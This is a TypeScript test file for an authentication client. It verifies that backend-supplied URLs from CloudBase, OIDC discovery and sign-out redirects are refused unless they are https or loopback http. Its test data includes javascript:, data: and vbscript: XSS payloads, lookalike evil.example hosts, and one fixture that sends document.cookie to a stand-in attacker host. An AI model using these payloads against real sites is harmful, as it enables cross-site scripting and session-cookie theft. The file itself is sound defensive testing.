// Issue 20, M4: an address a backend answers with (CloudBase's `/provider/uri`, OIDC discovery)
// is never navigated to unless it is https (or http on this machine). Every navigation of the
// client goes through one check in the core; the adapters that build URLs refuse them too.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { ServerResponse } from 'node:http';
import { fakeAdapter } from '../../test/support/fake-adapter.js';
import { testEnvironment } from '../../test/support/environment.js';
import { json, startServer } from '../../test/support/http-server.js';
import { AuthClient } from './client.js';
import { make } from '../../test/support/client.js';
import { memoryStorage } from './storage.js';
import { toSession } from './util/session.js';
import { navigableUrl } from './util/url.js';
import { cloudbaseProvider } from '../providers/cloudbase/cloudbase.js';
import { oidcProvider } from '../providers/oidc/oidc.js';

const ATTACKS = [
  'javascript:alert(document.domain)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'http://evil.example/authorize',
  'http://127.0.0.1.evil.example/',
  'http://localhost.evil.example/',
  '//evil.example/authorize',
  '',
];

describe('navigableUrl', () => {
  test('https anywhere, http on loopback only; the normalized address is what is returned', () => {
    assert.equal(navigableUrl('https://id.example.com/authorize?x=1'), 'https://id.example.com/authorize?x=1');
    assert.equal(navigableUrl('HTTPS://ID.example.com'), 'https://id.example.com/');
    for (const local of ['http://127.0.0.1:5174/auth', 'http://localhost:8080/', 'http://[::1]:3000/', 'http://app.localhost/', 'http://127.1.2.3/']) {
      assert.equal(navigableUrl(local), new URL(local).href, local);
    }
  });
  for (const attack of [...ATTACKS, 42, null, undefined]) {
    test(`refuses ${JSON.stringify(attack)} with a config error`, () => {
      assert.throws(() => navigableUrl(attack), (error: { code?: string; providerCode?: string }) => error.code === 'config' && error.providerCode === 'unsafe_url');
    });
  }
});

describe('the client never navigates to an unsafe address', () => {
  for (const attack of ATTACKS.slice(0, 7)) {
    test(`signInWithOAuth: an adapter answering ${JSON.stringify(attack)} is refused in the core`, async () => {
      const provider = fakeAdapter();
      provider.authorizationUrl = async () => attack;
      const { client, env, storage } = make({ provider });
      for (const skipBrowserRedirect of [false, true]) {
        const { data, error } = await client.signInWithOAuth({ options: { skipBrowserRedirect } });
        assert.equal(error?.code, 'config');
        assert.equal(error?.providerCode, 'unsafe_url');
        assert.equal(data.url, null, 'the address is not handed out either (a popup would open it)');
      }
      assert.deepEqual(env.navigations, []);
      assert.equal(await storage.getItem(`auth-elements:${provider.key}:oauth`), null, 'no pending state was kept for it');
      client.destroy();
    });
  }

  test('signOut({ redirectTo }): a javascript: sign-out page is refused; the local sign-out still happens', async () => {
    const provider = fakeAdapter();
    provider.signOut = async () => ({ redirectUrl: 'javascript:fetch("//evil.example/?"+document.cookie)' });
    const { client, env, events } = make({ provider });
    await client.signInWithPassword({ email: 'u', password: 'right' });
    const { error } = await client.signOut({ redirectTo: 'https://app.example/' });
    assert.equal(error?.code, 'config');
    assert.equal(error?.providerCode, 'unsafe_url');
    assert.deepEqual(env.navigations, []);
    assert.equal(client.state.status, 'signed-out');
    assert.deepEqual(events.map(([e]) => e), ['INITIAL_SESSION', 'SIGNED_IN', 'SIGNED_OUT']);
    client.destroy();
  });

  test('a custom environment is checked too: the client wraps whatever it is given', async () => {
    const provider = fakeAdapter();
    provider.authorizationUrl = async () => 'javascript:alert(1)';
    const env = testEnvironment('https://app.example/');
    const client = new AuthClient({ provider, storage: memoryStorage(), environment: env });
    assert.equal((await client.signInWithOAuth()).error?.providerCode, 'unsafe_url');
    assert.deepEqual(env.navigations, []);
    client.destroy();
  });
});

describe('the adapters refuse the attack in their own answers', () => {
  let answer: (path: string, res: ServerResponse) => void;
  let server: Awaited<ReturnType<typeof startServer>>;
  before(async () => {
    server = await startServer((req, res) => answer(new URL(req.url ?? '/', 'http://x').pathname, res));
  });
  after(() => server.close());

  test("CloudBase: a javascript: `uri` in /provider/uri's answer is not navigated to", async () => {
    answer = (path, res) => (path.endsWith('/provider/uri') ? json(res, 200, { uri: 'javascript:alert(document.domain)' }) : json(res, 404, {}));
    const provider = cloudbaseProvider({ env: 'e', baseUrl: server.url, providers: ['github'] });
    // The adapter by itself, then through the client.
    await assert.rejects(provider.authorizationUrl!({ state: 's', nonce: 'n', codeChallenge: 'c', codeChallengeMethod: 'S256', redirectUri: 'https://app.example/cb', source: 'github' }, { http: (await import('./util/http.js')).createHttp(), lang: 'en' }), { code: 'config', providerCode: 'unsafe_url' });
    const env = testEnvironment('https://app.example/');
    const client = new AuthClient({ provider, storage: memoryStorage(), environment: env });
    const { error } = await client.signInWithOAuth({ provider: 'github' });
    assert.equal(error?.providerCode, 'unsafe_url');
    assert.deepEqual(env.navigations, []);
    client.destroy();
  });

  test('OIDC: a javascript: authorization_endpoint or end_session_endpoint in discovery is refused', async () => {
    const discovery = () => ({
      issuer: server.url,
      authorization_endpoint: 'javascript:alert(document.domain)//',
      token_endpoint: `${server.url}/token`,
      end_session_endpoint: 'javascript:alert(document.cookie)//',
    });
    answer = (path, res) => (path === '/.well-known/openid-configuration' ? json(res, 200, discovery()) : json(res, 404, {}));
    const storage = memoryStorage();
    const provider = oidcProvider({ issuer: server.url, clientId: 'spa', redirectUri: 'https://app.example/cb' });
    const env = testEnvironment('https://app.example/');
    const client = new AuthClient({ provider, storage, environment: env, autoRefresh: false });
    const started = await client.signInWithOAuth();
    assert.equal(started.error?.code, 'config');
    assert.equal(started.error?.providerCode, 'unsafe_url');
    await client.setSession({ ...toSession({ access_token: 'a', id_token: 'x.eyJzdWIiOiJ1In0.s', expires_in: 600 }, 'oidc') });
    assert.equal(client.state.status, 'signed-in');
    const out = await client.signOut({ redirectTo: 'https://app.example/' });
    assert.equal(out.error?.providerCode, 'unsafe_url');
    assert.equal(client.state.status, 'signed-out');
    assert.deepEqual(env.navigations, []);
    client.destroy();
  });
});
